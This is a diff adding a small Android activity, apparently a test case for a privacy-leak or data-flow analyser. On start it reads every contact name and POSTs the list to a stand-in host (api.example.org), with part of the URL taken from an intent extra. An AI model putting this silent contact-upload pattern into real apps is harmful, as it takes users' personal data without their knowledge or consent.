@@ -1,0 +1,41 @@
+// An address with a piece that only the intent knows; a string is asked for itself on the way.
+package cases.endpoint_unknown;
+
+import android.app.Activity;
+import android.database.Cursor;
+import android.os.Bundle;
+import android.provider.ContactsContract;
+import android.util.Log;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.HttpURLConnection;
+import java.net.URL;
+
+public final class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        StringBuilder text = new StringBuilder();
+        Cursor rows = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
+        while (rows.moveToNext()) {
+            text.append(rows.getString(1));
+        }
+        rows.close();
+        try {
+            send(text.toString().getBytes());
+        } catch (IOException e) {
+            Log.w("main", "later");
+        }
+    }
+
+    private void send(byte[] body) throws IOException {
+        String branch = getIntent().getStringExtra("branch").toString().intern();
+        URL address = new URL("https://api.example.org/" + branch + "/contacts");
+        HttpURLConnection connection = (HttpURLConnection) address.openConnection();
+        connection.setDoOutput(true);
+        OutputStream out = connection.getOutputStream();
+        out.write(body);
+        out.close();
+        connection.getInputStream().close();
+    }
+}
